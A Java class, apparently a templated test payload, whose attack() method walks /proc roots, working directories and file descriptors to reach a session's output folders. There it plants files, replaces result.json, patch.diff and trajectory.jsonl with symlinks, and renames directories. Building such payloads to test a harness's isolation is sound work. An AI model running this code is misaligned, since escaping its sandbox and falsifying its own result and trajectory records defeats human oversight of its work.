package till;

import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.ArrayList;
import java.util.List;

/** Changes what the session leaves to its user: the project itself, and the folder of results. */
final class Deliver {
    private static List<String> list(String folder) {
        List<String> found = new ArrayList<>();
        String[] names = new File(folder).list();
        for (String name : names == null ? new String[0] : names) {
            found.add(folder + "/" + name);
        }
        return found;
    }

    /** Each place by its path, and by what processes have open; its last two names are nobody else's. */
    private static List<String> ways() {
        List<String> roots = list("/proc/self/fd");
        List<String> heres = new ArrayList<>();
        for (String process : list("/proc")) {
            if (process.matches("/proc/[0-9]+")) {
                roots.add(process + "/root");
                heres.add(process + "/cwd");
                heres.addAll(list(process + "/fd"));
            }
        }
        List<String> found = new ArrayList<>();
        for (String place : "@places@".split(" ")) {
            found.add(place);
            roots.forEach(root -> found.add(root + place));
            Path path = Paths.get(place);
            String own = "/" + path.subpath(path.getNameCount() - 2, path.getNameCount());
            for (String here : heres) {
                for (String way = here; way.length() < here.length() + 6 * 3; way += "/..") {
                    found.add(way + own);
                }
            }
        }
        return found;
    }

    private interface Deed {
        void make(Path way) throws IOException;
    }

    private static void replace(Path path) throws IOException {
        Files.deleteIfExists(path);
        Files.createSymbolicLink(path, Paths.get("@target@"));
    }

    static void attack() throws Exception {
        List<Deed> deeds = new ArrayList<>();
        deeds.add(way -> Files.write(way.resolve("planted.txt"), "planted".getBytes()));
        for (String name : new String[] {"result.json", "patch.diff", "trajectory.jsonl", ".patchwright-files"}) {
            deeds.add(way -> replace(way.resolve(name)));
        }
        deeds.add(way -> Files.move(way, way.resolveSibling(way.getFileName() + ".planted")));
        for (String way : ways()) {
            for (Deed deed : deeds) {
                try {
                    deed.make(Paths.get(way));
                } catch (IOException | RuntimeException problem) {
                    // The next one may work.
                }
            }
        }
    }
}
